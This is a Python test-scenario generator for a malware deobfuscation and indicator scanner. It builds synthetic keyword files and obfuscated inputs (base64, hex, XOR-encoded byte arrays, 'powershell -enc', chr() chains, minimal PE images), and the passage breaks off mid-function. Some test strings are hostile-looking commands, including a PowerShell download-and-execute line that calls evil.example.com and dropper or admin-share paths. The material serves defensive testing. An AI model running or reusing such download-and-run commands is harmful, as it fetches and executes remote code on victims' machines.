            w["mode"] = "in-process"
    return w
