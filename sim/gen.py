"""seed -> scenario.  Pure functions of (property, seed, tier, shipped keyword
summary); every choice comes from one random.Random(seed)."""

from __future__ import annotations

import base64
import binascii
import os
import random

import model

DEPTHS = [-1, 0, 1, 2, 3, 10, 10, 10]
DELIMS = [b" ", b"\n", b"\t", b";", b"(", b")", b"\0", b", ", b"\r\n", b"|", b"'", b'"', b"=", b"  ", b"", b"\\", b"/"]

BASE_WORDS = [
    b"alpha", b"Beta", b"gamma7", b"delta_x", b"Open Process", b"x-y.z", b"m\xc3\xbcnchen", b"\xff\xfeword",
    b"strcpy", b"WinExec", b"get-item", b"a", b"Zz", b"k9", b"evil.example.com", b"1.2.3.4", b"$env:temp",
    b"C:\\temp", b"cmd", b"http", b"wscript.shell", b"Na\xc3\xafve Word", b"#tag", b"%APPDATA%", b"long keyword with spaces",
    # phrases that contain indicators: the keyword hit becomes a context with other hits at offset > 0
    b"visit http://evil.example.com/a.exe now", b"run cmd.exe /c calc", b"mail bob@example.org!", b"ip 10.20.30.40 port 80",
    b"open C:\\Windows\\System32\\calc.exe please", b"load kernel32.dll then",
]
FILE_NAMES = [
    "shell", "network", "hex",  # a keyword list may be named like anything, also like a decoder module
    "cafe\u0301", "\u2126hm.label",  # not NFC: decomposed e-acute, OHM SIGN (a name is a name, byte for byte)
    "api.one", "api.two", "malware", "Label With Space", "\u03b4.label", "UPPER", "x.string", "a", "b.c.d",
    "network.string", "caf\u00e9", "k_w", "0", "api.kernel32", "shell.cmd", ".hidden", "words.txt", "backup~",
]
DIR_NAMES = ["sub", "api", "d.e", "\u00fcber", "x y", "n2", "v[2]", ".cfg"]


def case_variants(rng, w):
    outs = {w, w.lower(), w.upper(), w.swapcase(), w.title()}
    outs = sorted(o for o in outs if o.lower() == w.lower())
    rng.shuffle(outs)
    return outs


def shipped_summary(repo):
    """Read the shipped keyword files (sorted walk, harness code) and return
    collision classes and a sample of plain words."""
    root = os.path.join(repo, "src", "multidecoder", "keywords")
    files = []
    for d, dirs, fs in os.walk(root):
        dirs.sort()
        for f in sorted(fs):
            with open(os.path.join(d, f), "rb") as fh:
                lines = model.split_lines(fh.read())
            if lines:
                files.append((f, lines))
    files.sort(key=lambda x: x[0])
    case_classes = []
    where = {}
    for name, lines in files:
        by_lower = {}
        for ln in sorted(lines):
            by_lower.setdefault(ln.lower(), []).append(ln)
            where.setdefault(ln.lower(), set()).add(name)
        for k, v in sorted(by_lower.items()):
            if len(v) > 1:
                case_classes.append(sorted(v))
    multi = sorted(k for k, v in where.items() if len(v) > 1)
    allw = sorted({ln for _, lines in files for ln in lines})
    return {
        "case_classes": case_classes,
        "multi_file": multi,
        "all": allw,
        "nfiles": len(files),
    }


# --------------------------------------------------------------------------
# layouts


def gen_layout(rng, collisions=True, small=False):
    nfiles = rng.choice([0, 1, 1, 2, 2, 3, 3, 4, 5, 6]) if not small else rng.choice([1, 2, 2, 3])
    ndirs = rng.choice([0, 0, 1, 1, 2, 3])
    dirs = []
    for _ in range(ndirs):
        base = rng.choice([""] + dirs) if dirs else ""
        nm = rng.choice(DIR_NAMES)
        p = (base + "/" + nm) if base else nm
        if p not in dirs:
            dirs.append(p)
    words = list(BASE_WORDS)
    rng.shuffle(words)
    words = words[: rng.randint(2, 10)]
    # random extra words: punctuation / high bytes, no NUL/CR/LF, no leading/trailing whitespace
    for _ in range(rng.randint(0, 3)):
        n = rng.randint(1, 9)
        w = bytes(rng.choice(b"abcXYZ019 _-.:/\\$%#@!~+\x80\xa9\xe9\xff") for _ in range(n)).strip()
        if w and b"\n" not in w and b"\r" not in w:
            words.append(w)
    # Bytes that are line boundaries for str.splitlines() but not in a binary file (VT, FF, FS, GS, RS, NEL,
    # U+2028): a keyword containing one is still one keyword (seeded change c18r: files read in text mode).
    # Always inside a word, never a whole line, and derived without drawing from the generator.
    if len(words) >= 2 and (len(words) + len(words[0]) + ndirs) % 3 == 0:
        seps = [b"\x0c", b"\x0b", b"\x1c", b"\x1d", b"\x1e", b"\xc2\x85", b"\xe2\x80\xa8", b"\x85"]
        w = words[0][:4] + seps[(len(words[1]) + nfiles) % len(seps)] + words[-1][:4]
        if b"\n" not in w and b"\r" not in w and w.strip() == w and w not in words:
            words.append(w)
    shared = rng.sample(words, min(len(words), rng.randint(0, 2))) if collisions else []
    cased = rng.sample(words, min(len(words), rng.randint(0, 2))) if collisions else []
    files = []
    used = set()
    for _ in range(nfiles):
        for _try in range(10):
            name = rng.choice(FILE_NAMES)
            d = rng.choice([""] + dirs)
            path = (d + "/" + name) if d else name
            if path not in used and path not in dirs:
                used.add(path)
                break
        else:
            continue
        k = rng.choice([0, 0, 1, 2, 3, 4, 6, 8])
        lines = [rng.choice(words) for _ in range(k)]
        if k and shared and rng.random() < 0.7:
            lines += shared
        if k and cased and rng.random() < 0.6:
            for w in cased:
                vs = case_variants(rng, w)
                lines += vs[: rng.randint(2, 3)]
        if lines and rng.random() < 0.3:
            lines.append(rng.choice(lines))  # duplicate line
        rng.shuffle(lines)
        nl = rng.choice([b"\n", b"\n", b"\r\n", b"\r"])
        parts = []
        for ln in lines:
            if rng.random() < 0.15:
                parts.append(b"")  # blank line
            parts.append(ln)
        content = nl.join(parts)
        if parts and rng.random() < 0.7:
            content += nl
        if rng.random() < 0.1:
            content = nl + nl + content
        if k == 0 and rng.random() < 0.5:
            content = nl * rng.randint(1, 3)  # only blank lines
        files.append({"path": path, "content": content.hex()})
    return {"dirs": dirs, "files": files}


def layout_words(layout):
    out = []
    for _, lines in model.layout_model(layout):
        out.extend(sorted(lines))
    return out


def layout_collisions(layout):
    m = model.layout_model(layout)
    seen = {}
    coll = []
    for name, lines in m:
        low = {}
        for ln in sorted(lines):
            low.setdefault(ln.lower(), []).append(ln)
            seen.setdefault(ln.lower(), []).append(name)
        coll += [v[0] for v in low.values() if len(v) > 1]
    coll += [k for k, v in seen.items() if len(v) > 1]
    return sorted(set(coll))


# --------------------------------------------------------------------------
# inputs


def mangle_case(rng, w):
    r = rng.random()
    if r < 0.5:
        return w
    if r < 0.65:
        return w.upper()
    if r < 0.8:
        return w.lower()
    return bytes((c ^ 0x20) if (chr(c).isalpha() and c < 128 and rng.random() < 0.5) else c for c in w)


def payload(rng, words):
    parts = []
    for _ in range(rng.randint(1, 3)):
        r = rng.random()
        if r < 0.55 and words:
            parts.append(mangle_case(rng, rng.choice(words)))
        elif r < 0.75:
            parts.append(rng.choice([b"http://evil.example.com/payload.exe", b"https://a.example.net/x?y=1", b"10.20.30.40", b"bob@example.org", b"C:\\Windows\\System32\\cmd.exe"]))
        elif r < 0.85:
            # printable non-ASCII UTF-8 text (what a "show readable text" feature would print verbatim)
            parts.append(rng.choice(["caf\u00e9 au lait", "na\u00efve r\u00e9sum\u00e9", "\u65e5\u672c\u8a9e\u30c6\u30ad\u30b9\u30c8", "\u00fcber gr\u00f6\u00dfe"]).encode("utf-8"))
        else:
            parts.append(bytes(rng.randrange(32, 127) for _ in range(rng.randint(3, 12))))
    return b" ".join(parts)


def snippet(rng, words, depth=0):
    p = payload(rng, words)
    if depth < 2 and rng.random() < 0.3:
        p = snippet(rng, words, depth + 1)
    k = rng.randrange(32)
    q = p.replace(b'"', b"").replace(b"'", b"")
    if k == 20:
        return b"".join(b"&#x%02x;" % c for c in p[:40]) if rng.random() < 0.5 else b"".join(b"&#%d;" % c for c in p[:40])
    if k == 21:
        try:
            return p.decode("latin-1").encode("utf-16-le")
        except Exception:  # noqa: BLE001
            return p
    if k == 22:
        return b"unescape('" + b"".join(b"%%%02x" % c for c in p[:40]) + b"')"
    if k == 23 and rng.random() < 0.5:
        # a path with an unusual extension and, elsewhere, a bare file name with the same one
        ext = rng.choice([b"txt", b"pdf", b"ps1", b"vbs", b"dat"])
        return rng.choice([b"type C:\\temp\\notes." + ext + b" > out." + ext, b"readme." + ext + b" and C:\\Users\\bob\\report." + ext,
                           b"copy \\\\server\\share\\a." + ext + b" b." + ext])
    if k == 23:
        return rng.choice([b"kernel32.dll", b"load evil_helper.dll now", b"/usr/local/bin/payload.sh", b"../opt/tool/run.bin", b"./tmp/dropper/stage2.elf"])
    if k == 24:
        return b'Replace("' + q.replace(b"e", b"_") + b'", "_", "e")'
    if k == 25:
        return b'"' + q.replace(b"t", b"#") + b'" -replace "#","t"'
    if k == 26:
        return b'"' + q.replace(b"a", b"~") + b'".replace(/~/g, "a")'
    if k == 27:
        return b" ".join(b"%02x" % c for c in p[:60]) if rng.random() < 0.5 else b", ".join(b"%02X" % c for c in p[:60])
    if k in (28, 3) and rng.random() < 0.6:
        # numeric literals padded far beyond what anybody would write by hand
        z = b"0" * rng.choice([30, 700, 700, 4400])
        return rng.choice([b"chr(" + z + b"104)&chr(" + z + b"116)", b"chr(" + z + b"104)&chr(" + z + b"116)", b"&#" + z + b"65;" * 6, b"http://" + z + b"10.1.2.3/x"])
    if k == 28:
        return rng.choice([b"0x7f.0x0.0x0.0x1", b"0300.0250.0001.0012", b"http://0xC0A80101/x", b"3232235777", b"192.168.001.010"])
    if k == 29:
        return b"[System.Convert]::FromHexString('" + binascii.hexlify(p) + b"')"
    if k == 30:
        tail = rng.choice([b"", b"", b"; $o = $b | % { $_ -bxor $k }", b" -bxor $key"])
        if tail:
            # a non-literal key sends the array through xortool's key search, whose cost depends on the
            # data in ways one cannot predict (minutes and gigabytes on base64-like text, and on some
            # keys over prose): only (text, key) pairs that were measured to be cheap are used
            prose = (b"Invoke-Expression (New-Object Net.WebClient).DownloadString('http://evil.example.com/a') ; Start-Process calc.exe ; " * 8)[:520]
            key = rng.choice([b"\x5a", b"\x21\x7f\x13", b"k3y!x", b"longerkey77", bytes(range(40, 101))])
            body = bytes(c ^ key[i % len(key)] for i, c in enumerate(prose))
        else:
            body = (p * (1 + 520 // max(1, len(p))))[:520]
        return b"[Byte[]] $b = " + b",".join(b"%d" % c for c in body) + tail
    if k == 31:
        return rng.choice([b"http://evil.example.com/a%2Fb/../c/./d.exe?x=%41", b"%APPDATA%\\Microsoft\\update.exe", b"C:\\Users\\%USERNAME%\\run.dll",
                           b"%TEMP%\\stage2.exe", b"%SystemRoot%\\System32\\cmd.exe", b"%PUBLIC%\\Documents\\a.exe", b"%HOME%\\x\\y.exe",
                           # UNC / device paths whose server is a domain name or an address (seeded change c09ac: a cached host node)
                           b"\\\\fileserver.example.com\\share\\x.exe", b"\\\\?\\UNC\\files.evil.example.com\\c$\\a.dll",
                           b"copy \\\\cdn.example.org\\pub\\tool.exe . & \\\\cdn.example.org\\pub\\tool.exe /s", b"\\\\10.1.2.3\\admin$\\svc.exe"])
    if k == 16:
        key = rng.choice([7, 35, 77, 128, 255])
        return b'[System.Convert]::FromBase64String("' + base64.b64encode(bytes(c ^ key for c in p)) + b'") -bxor ' + str(key).encode()
    if k == 17:
        key = rng.choice([13, 66, 99])
        return b'FromHexString("' + binascii.hexlify(bytes(c ^ key for c in p)) + b'") -xor ' + str(key).encode()
    if k == 18:
        return mini_pe(p if len(p) <= 0x200 else payload(rng, words))  # the section holds the whole payload or another one
    if k == 19:
        # an encoded blob that starts inside an unchanged indicator and runs past its end
        return rng.choice([b"C:\\Users\\bob\\", b"see evil.example.com/", b"\\\\server\\share\\"]) + base64.b64encode(p + b" padding to make it long enough")
    if k == 0:
        return base64.b64encode(p)
    if k == 1:
        return binascii.hexlify(p)
    if k == 2:
        return b'atob("' + base64.b64encode(p) + b'")'
    if k == 3:
        return b'[System.Convert]::FromBase64String("' + base64.b64encode(p) + b'")'
    if k == 4:
        try:
            enc = p.decode("latin-1").encode("utf-16-le")
        except Exception:  # noqa: BLE001
            enc = p
        return b"powershell -enc " + base64.b64encode(enc)
    if k == 5:
        cut = rng.randint(1, max(1, len(p) - 1))
        a, b = p[:cut].replace(b'"', b""), p[cut:].replace(b'"', b"")
        return b'"' + a + b'" + "' + b + b'"'
    if k == 6:
        return b'StrReverse("' + p[::-1].replace(b'"', b"") + b'")'
    if k == 7:
        return b'cmd /c "echo ' + p.replace(b'"', b"") + b' & ping 1.2.3.4"'
    if k == 8:
        return b"&".join(b"chr(%d)" % c for c in (p if len(p) <= 12 else payload(rng, words)[:12]))
    if k == 9:
        return b'FromHexString("' + binascii.hexlify(p) + b'")'
    if k == 10:
        return b'"a_b".replace("_","' + p.replace(b'"', b"") + b'")'
    if k == 11:
        return b"^".join(bytes([c]) for c in b"powershell") + b" " + p
    if k == 12:
        return b'CreateObject("WScript.Shell")'
    if k == 13:
        return b'unescape("' + b"".join(b"%%%02x" % c for c in (p if len(p) <= 20 else payload(rng, words)[:20])) + b'")'
    if k == 14:
        return p
    return base64.b64encode(base64.b64encode(p))


def mini_pe(body):
    """A minimal well-formed PE32 image (one .text section holding `body`)."""
    import struct

    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 0x40)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    opt = bytearray(0xE0)
    struct.pack_into("<H", opt, 0, 0x10B)
    struct.pack_into("<I", opt, 16, 0x1000)
    struct.pack_into("<I", opt, 28, 0x400000)
    struct.pack_into("<I", opt, 32, 0x1000)
    struct.pack_into("<I", opt, 36, 0x200)
    struct.pack_into("<H", opt, 40, 4)
    struct.pack_into("<H", opt, 48, 4)
    struct.pack_into("<I", opt, 56, 0x2000)
    struct.pack_into("<I", opt, 60, 0x200)
    struct.pack_into("<H", opt, 68, 3)
    struct.pack_into("<I", opt, 92, 16)
    sec = struct.pack("<8sIIIIIIHHI", b".text", 0x200, 0x1000, 0x200, 0x200, 0, 0, 0, 0, 0x60000020)
    hdr = (bytes(dos) + b"PE\0\0" + coff + bytes(opt) + sec).ljust(0x200, b"\0")
    return hdr + body[:0x200].ljust(0x200, b"\0")


def twins(rng, words):
    """The same encoded payload under two different wrappers (so the same
    decoded content appears twice, below different ancestors)."""
    p = payload(rng, words)
    b = base64.b64encode(p + b" " + payload(rng, words))
    forms = [b, b'atob("' + b + b'")', b'[System.Convert]::FromBase64String("' + b + b'")', b'cmd /c "echo ' + b + b'"',
             b'$p=\'' + b + b'\'', b'Base64Decode("' + b + b'")']
    return rng.sample(forms, 2)


def gen_input(rng, words, hot, max_len=2048, exotic=False, bulk=False, sizes=None):
    """words: keyword pool; hot: collision words (preferred)."""
    parts = []
    n = rng.choice([1, 1, 2, 3, 4, 6, 8])
    if rng.random() < 0.15:
        parts.extend(twins(rng, (hot * 3 + words) if hot else words))
    for _ in range(n):
        r = rng.random()
        if r < 0.35 and hot:
            parts.append(mangle_case(rng, rng.choice(hot)))
        elif r < 0.55 and words:
            parts.append(mangle_case(rng, rng.choice(words)))
        elif r < 0.9:
            parts.append(snippet(rng, (hot * 3 + words) if hot else words))
        else:
            if exotic:
                parts.append(bytes(rng.randrange(256) for _ in range(rng.randint(0, 20))))
            else:
                parts.append(bytes(rng.randrange(32, 127) for _ in range(rng.randint(0, 20))))
    out = bytearray()
    for p in parts:
        d = rng.choice(DELIMS) if out else b""
        if out and len(out) + len(d) + len(p) > max_len:
            continue  # whole parts only: a part cut in the middle (half a PE image) is another kind of input
        out += d + p
    if exotic:
        r = rng.random()
        if r < 0.06:
            return b""
        if r < 0.12:
            out += b"\x00\x00\xff\xfe\xc3\x28"
        if r < 0.18:
            out = bytearray(b"\xef\xbb\xbf") + out
    if len(out) > max(max_len, 3072):
        out = out[:max_len]
    if bulk and out and b"[Byte[]]" not in out:  # (repeating a byte array makes xortool enumerate keys for minutes and gigabytes)
        # a large buffer: the same material repeated between filler lines (size thresholds,
        # block-wise readers, "only for big inputs" fast paths)
        target = rng.choice(sizes or [4200, 5000, 9000, 20000, 66000])
        filler = [b"lorem ipsum dolor sit amet", b"-- 0123456789 --", b"the quick brown fox", b""]
        big = bytearray()
        while len(big) < target:
            big += out if rng.random() < 0.5 else rng.choice(filler)
            big += rng.choice([b"\n", b"\r\n", b" ", b"\n\n"])
        out = big  # whole repetitions only (never half of the material)
    return bytes(out)


def env_vars(rng):
    """Process environment a result must not depend on."""
    out = {}
    for k, choices in (("HOME", ["@scratch", "@shared", "/nonexistent"]), ("TMPDIR", ["@scratch", "@shared"]), ("XDG_CACHE_HOME", ["@scratch", "@shared"]), ("USER", ["root", "analyst", "nobody"]),
                       ("LANG", ["C", "en_US.UTF-8", "de_DE.UTF-8", "tr_TR.UTF-8"]), ("TZ", ["UTC", "Asia/Tokyo", "America/St_Johns"]),
                       ("COLUMNS", ["40", "200"]), ("TERM", ["dumb", "xterm-256color"]), ("NO_COLOR", ["1"]), ("PYTHONUTF8", ["1"]),
                       ("APPDATA", ["C:\\Users\\victim\\AppData\\Roaming", "/srv/appdata"]), ("TEMP", ["C:\\Temp", "/var/tmp"]),
                       ("USERNAME", ["victim", "svc_scan"]), ("PUBLIC", ["C:\\Users\\Public"]), ("SystemRoot", ["C:\\WINNT"]),
                       ("PYTHONINTMAXSTRDIGITS", ["0", "640", "640", "100000"])):
        if rng.random() < 0.4:
            out[k] = rng.choice(choices)
    return out


def io_knobs(rng):
    return {
        "chunk": rng.choice(["mixed", "mixed", "mixed", "one", "full", 3, 7, 64, 4096]),
        "bufsizes": rng.choice([None, None, [1], [2, 3], [7, 16], [512], [8192], [65536]]),
        "eintr": rng.choice([0.0, 0.0, 0.05, 0.2]),
    }


def sched_spec(rng, heavy, no_all=False):
    r = rng.random()
    scope = "engine" if r < 0.45 else ("nokw" if r < 0.7 else "all")
    if scope == "all" and no_all:
        # tracing every keyword comparison of a large buffer (or doing so repeatedly in one world) costs
        # minutes and explores nothing the first such run did not
        scope = "nokw"
    kind = rng.choice(["rw", "rw", "sw", "sw", "sw", "pct", "rtc"])
    if scope == "all" and rng.random() < 0.6:
        kind = "sw"  # the only policy that reaches rare lines between the keyword loops
    spec = {"policy": kind, "seed": rng.randrange(1 << 30), "scope": scope, "view": rng.random() < 0.3}
    if kind == "rw":
        if scope == "engine":
            spec["quantum"] = rng.choice([1, 2, 3, 5, 10, 30, 100])
        elif scope == "nokw":
            spec["quantum"] = rng.choice([1, 3, 10, 30, 100, 1000])
        else:
            spec["quantum"] = rng.choice([200, 1000, 5000] if heavy else [5, 20, 100, 1000])
    if kind == "sw":
        spec["k"] = rng.choice([0.3, 1.0, 1.0, 3.0])
    if kind == "pct":
        spec["depth"] = rng.choice([1, 2, 3])
    return spec


MODULES = model.DECODER_MODULES
KWDIR_FORMS = ["abs", "abs", "rel", "dot", "slash", "abs_slash", "bracket"]


def lib_sched_spec(rng):
    """Policy for threads the code under test starts itself (tier 2)."""
    kind = rng.choice(["rw", "rw", "rtc", "pct"])
    spec = {"policy": kind, "seed": rng.randrange(1 << 30), "scope": rng.choice(["nokw", "nokw", "engine"]),
            "timeout_fire_p": rng.choice([0.0, 0.0, 0.02, 0.2])}
    if kind == "rw":
        spec["quantum"] = rng.choice([3, 20, 200, 5000])
    if kind == "pct":
        spec["depth"] = rng.choice([1, 2, 3])
    return spec


def gen_filter(rng, allow_none=True):
    """(include, exclude) as plain lists or None.  include is never an empty
    list: the statement does not say what an empty include list selects."""
    inc = exc = None
    r = rng.random()
    if r < 0.4:
        pass
    elif r < 0.6:
        inc = sorted(rng.sample(MODULES, rng.randint(1, 5)))
    elif r < 0.8:
        exc = sorted(rng.sample(MODULES, rng.randint(0, 5)))
    else:
        inc = sorted(rng.sample(MODULES, rng.randint(1, 8)))
        exc = sorted(rng.sample(MODULES, rng.randint(1, 5)))
        if rng.random() < 0.6 and inc:
            exc = sorted(set(exc) | {rng.choice(inc)})  # overlap
    if rng.random() < 0.15:
        if inc is not None:
            inc = sorted(set(inc) | {"no_such_module"})
        elif exc is not None:
            exc = sorted(set(exc) | {"no_such_module"})
    return inc, exc


def record_input(rng, words):
    """A short fixed-layout record with exactly one decodable call and nothing
    else that decodes (the kind of line a log processor feeds through one
    long-lived scanner, each line in a buffer of its own)."""
    w = rng.choice(words) if words else b"alpha"
    short = base64.b64encode(rng.choice([b"calc", b"whoami", b"net use", w[:9] or b"x"]))
    call = rng.choice([
        b'FromBase64String("' + short + b'")', b'Base64Decode("' + short + b'")', b'atob("' + short + b'")',
        b'"c_lc".replace("_","a")', b'StrReverse("' + w[::-1].replace(b'"', b"") + b'")', b"unescape('%63%61%6c%63')",
        b'[System.Convert]::FromBase64String("' + short + b'") -bxor 35',
    ])
    return b"evt=" + rng.choice([b"exec", b"load", b"eval"]) + b" arg=" + call + b" id=" + str(rng.randrange(1000, 9999)).encode()


def same_length_sibling(rng, data, words):
    """An input of exactly the same length whose keyword content differs: one
    word that occurs in data is replaced by another word of the same length (or
    by a non-word).  Fixed-width records look like this."""
    import re as _re

    m = _re.search(rb"-b?xor (\d{1,3})", data)
    if m and rng.random() < 0.5:
        # same record layout, another key (or none: the operator is misspelt)
        old = m.group(1)
        new = {1: b"9", 2: b"42", 3: b"101"}[len(old)]
        if new == old:
            new = bytes(reversed(old)) if bytes(reversed(old)) != old else b"7" * len(old)
        out = data[: m.start(1)] + new + data[m.end(1) :] if rng.random() < 0.6 else data.replace(b"xor ", b"xar ", 1)
        return out if len(out) == len(data) and out != data else None
    tokens = [t for t in (b"FromBase64String", b"Base64Decode", b"atob", b"replace", b"Replace", b"StrReverse", b"unescape", b"FromHexString",
                          b"CreateObject", b"powershell", b"chr", b"cmd", b"http") if t in data]
    if tokens and rng.random() < 0.8:
        # the same record with one call name misspelt: what the decoder for it finds changes, the length does not
        t = rng.choice(tokens)
        out = data.replace(t, t[:-1] + (b"q" if t[-1:] != b"q" else b"z"))
        return out if len(out) == len(data) and out != data else None
    present = [w for w in sorted(set(words)) if w and w in data]
    if not present:
        return None
    w = rng.choice(present)
    same = [x for x in sorted(set(words)) if len(x) == len(w) and x.lower() != w.lower()]
    repl = rng.choice(same) if same and rng.random() < 0.7 else (w[:-1] + (b"Q" if w[-1:] != b"Q" else b"Z"))
    out = data.replace(w, repl)
    return out if len(out) == len(data) and out != data else None


def layout_variant(rng, layout):
    """The same files (paths, sizes) with one keyword replaced by another of
    the same length.  Returns (variant, old_word, new_word) or None."""
    files = [f for f in layout["files"] if model.split_lines(bytes.fromhex(f["content"]))]
    if not files:
        return None
    f = rng.choice(files)
    content = bytes.fromhex(f["content"])
    lines = sorted(model.split_lines(content))
    w = rng.choice(lines)
    if len(w) < 2:
        return None
    new = bytes(reversed(w)) if bytes(reversed(w)).lower() != w.lower() else (w[:-1] + (b"q" if w[-1:] != b"q" else b"z"))
    if b"\n" in new or b"\r" in new or new.strip() != new or new in lines:
        return None
    var = {"dirs": list(layout["dirs"]), "files": [dict(x) for x in layout["files"]]}
    for x in var["files"]:
        if x["path"] == f["path"]:
            x["content"] = content.replace(w, new).hex()
    if model.layout_model(var) == model.layout_model(layout):
        return None
    return var, w, new


# --------------------------------------------------------------------------
# C09


def gen_c09(seed, shipped, tier="quick"):
    rng = random.Random(seed)
    use_shipped = rng.random() < 0.5
    if use_shipped:
        kw = "shipped"
        hot = [rng.choice(c) for c in rng.sample(shipped["case_classes"], min(3, len(shipped["case_classes"])))]
        hot += rng.sample(shipped["multi_file"], min(3, len(shipped["multi_file"])))
        words = rng.sample(shipped["all"], min(12, len(shipped["all"])))
    else:
        kw = gen_layout(rng, collisions=True)
        hot = layout_collisions(kw)
        words = layout_words(kw)
    inc, exc = (None, None) if rng.random() < 0.7 else gen_filter(rng)
    variants = []
    if not use_shipped and rng.random() < 0.3:
        v = layout_variant(rng, kw)
        if v:
            variants.append(v[0])
            hot = sorted(set(hot) | {v[1], v[2]})  # both spellings occur in the inputs
            words = sorted(set(words) | {v[1], v[2]})
    ncorp = rng.choice([1, 1, 2, 2, 3, 4])
    corpus = [gen_input(rng, words, hot, exotic=rng.random() < 0.2, bulk=rng.random() < 0.1, sizes=[4200, 4200, 5000, 9000]) for _ in range(ncorp)]
    if not use_shipped and rng.random() < 0.04:
        # a buffer beyond a megabyte (memory dumps, big scripts): "only for large values" code paths
        filler = b"lorem ipsum dolor sit amet -- 0123456789 -- the quick brown fox\n"
        corpus[0] = corpus[0][:1500] + b"\n" + filler * ((1 << 20) // len(filler) + rng.randint(1, 400)) + corpus[0][:1500]
    sibling = None
    if rng.random() < 0.4 and len(corpus[0]) < 100000:
        if rng.random() < 0.65:
            corpus[0] = record_input(rng, list(words) + list(hot))
        sib = same_length_sibling(rng, corpus[0], list(words) + list(hot))
        if sib is not None:
            corpus.append(sib)
            sibling = len(corpus) - 1
            ncorp = len(corpus)
    ascii_labels = use_shipped or all(ord(ch) < 128 for path in [f["path"] for f in kw["files"]] + list(kw["dirs"]) for ch in path)
    keys = []
    for _ in range(rng.randint(1, 3)):
        i = rng.randrange(ncorp)
        ks = [[i, rng.choice(DEPTHS)]]
        if rng.random() < 0.5:
            # the same input at a deep and at a shallow limit: retained hits show up as
            # a shallow result that is too deep (or the reverse), depending on the order
            ks = [[i, 10], [i, rng.choice([1, 1, 2, 3])]]
        for k in ks:
            if k not in keys:
                keys.append(k)
    if sibling is not None:
        d = rng.choice([1, 2, 10, 10])
        for k in ([0, d], [sibling, d]):
            if k not in keys:
                keys.append(k)
    # the pristine world scans shallow limits first; other worlds use any order
    keys.sort(key=lambda k: (k[1] if k[1] > 0 else 0, k[0]))
    cli_ok = inc is None and exc is None
    cli_keys = []
    if cli_ok and rng.random() < 0.5:
        cli_keys.append([rng.choice(["json", "default", "default", "replace"]), rng.randrange(ncorp)])
    thorough = tier == "thorough"
    nworlds = rng.choice([2, 3, 3, 4, 5] if thorough else [2, 3, 3, 4])
    worlds = []
    h0 = 0 if thorough and rng.random() < 0.5 else rng.choice([0, 1, rng.randrange(1 << 32)])
    pristine_ops = [["new", "s0"]] + [["scan", "s0", i, d] for i, d in keys] + [["scan_pre", "s0", i, d] for i, d in keys[:2]] + [["cli", m, "stdin", i] for m, i in cli_keys]
    worlds.append({"hashseed": h0, "enum_seed": 0, "io_seed": 0, "env_seed": 0, "io": {"chunk": "full"}, "env": {"LC_ALL": None, "opt": ""}, "ops": pristine_ops})
    if variants:
        # a second pristine world: the variant configuration from the start
        worlds.append({"hashseed": h0, "enum_seed": 0, "io_seed": 0, "env_seed": 0, "io": {"chunk": "full"}, "env": {"LC_ALL": None, "opt": ""},
                       "config_idx": 1, "ops": [list(o) for o in pristine_ops]})
    for wi in range(1, nworlds):
        h = rng.choice([0, 1, 2, 3, rng.randrange(1 << 32), rng.randrange(1 << 32), h0])
        e = rng.choice([0, rng.randrange(1, 1 << 30), rng.randrange(1, 1 << 30), rng.randrange(1, 1 << 30)])
        ops = [["new", "s0"]]
        scanners = ["s0"]
        nops = rng.randint(1, 16 if thorough else 10)
        nres = 0
        for _ in range(nops):
            r = rng.random()
            i, d = rng.choice(keys)
            s = rng.choice(scanners)
            if r < 0.35:
                ops.append(["scan", s, i, d])
                nres += 1
            elif r < 0.40:
                ops.append(["scan_node", s, i, d])
                nres += 1
            elif r < 0.43:
                ops.append(["scan_fresh", s, i, d])
            elif r < 0.46:
                ops.append(["scan_pre", s, i, d])
            elif r < 0.62:
                nt = rng.choice([2, 2, 3, 4, 5, 6] if thorough else [2, 2, 3, 4])
                jobs = [list(rng.choice(keys)) for _ in range(nt)]
                if rng.random() < 0.4:
                    jobs = [list(jobs[0]) for _ in range(nt)]  # same input in every thread
                for j in jobs:
                    if rng.random() < 0.25:
                        j.append("node")  # this thread enters through scan_node() on a node it built
                bulky = any(len(corpus[j[0]]) > 3000 for j in jobs)
                n_all = sum(1 for o in ops if o[0] == "par_scan" and o[3].get("scope") == "all")
                spec = sched_spec(rng, use_shipped, no_all=bulky or (use_shipped and n_all >= 1) or n_all >= 2)
                if any(len(corpus[j[0]]) > 100000 for j in jobs):
                    spec["scope"] = "engine"  # line-tracing the decoders over a megabyte costs minutes
                    if spec["policy"] == "rw":
                        spec["quantum"] = rng.choice([1, 2, 3, 5, 10, 30, 100])
                ops.append(["par_scan", s, jobs, spec])
                nres += nt
            elif r < 0.72 and nres:
                ops.append(["view", rng.randrange(64)])
            elif r < 0.78 and nres:
                ops.append(["mutate", rng.randrange(64)])
            elif r < 0.86:
                sid = "s%d" % len(scanners)
                scanners.append(sid)
                ops.append(["new", sid])
            elif r < 0.91 and cli_keys:
                m, ci = rng.choice(cli_keys)
                ops.append(["cli", m, rng.choice(["stdin", "file"]), ci])
            elif r < 0.92:
                ops.append(["gc"])
            elif r < 0.93:
                ops.append(["import", rng.choice(MODULES)])
            elif r < 0.985:
                # crash point: a scan torn down at an arbitrary line; later results must not care
                ops.append(["abort_scan", s, i, d, {"seed": rng.randrange(1 << 30), "scope": rng.choice(["engine", "engine", "nokw", "nokw", "all"])}])
                ops.append(["scan", s, i, d])  # the same scanner, the same bytes, right after the aborted attempt
            else:
                # a scan of some other input (history), never compared across worlds unless keyed equal
                ops.append(["scan", s, rng.randrange(ncorp), rng.choice(DEPTHS)])
        if not any(o[0] in ("scan", "scan_node", "par_scan") for o in ops):
            i, d = rng.choice(keys)
            ops.append(["scan", "s0", i, d])
        if rng.random() < 0.3:
            # some other configuration is built in the same process, possibly before ours
            oi, oe = gen_filter(rng)
            if (oi, oe) == (inc, exc):
                oi, oe = (None, None) if (inc or exc) else (sorted(rng.sample(MODULES, 2)), None)
            ops.insert(rng.choice([0, 0, rng.randint(0, len(ops))]), ["new_other", oi, oe])
        if rng.random() < 0.15:
            ops.insert(0, ["import", rng.choice(MODULES)])  # a helper was imported from a decoder module first
        if sibling is not None and rng.random() < 0.8:
            # fixed-width records processed one after the other, each buffer dropped before the next
            d = next(k[1] for k in keys if k[0] == sibling)
            order = [0, sibling] if rng.random() < 0.5 else [sibling, 0]
            seq = []
            for rep in range(rng.randint(3, 5)):
                # both orders occur: a stale verdict only shows when the buffer that lacks something comes first
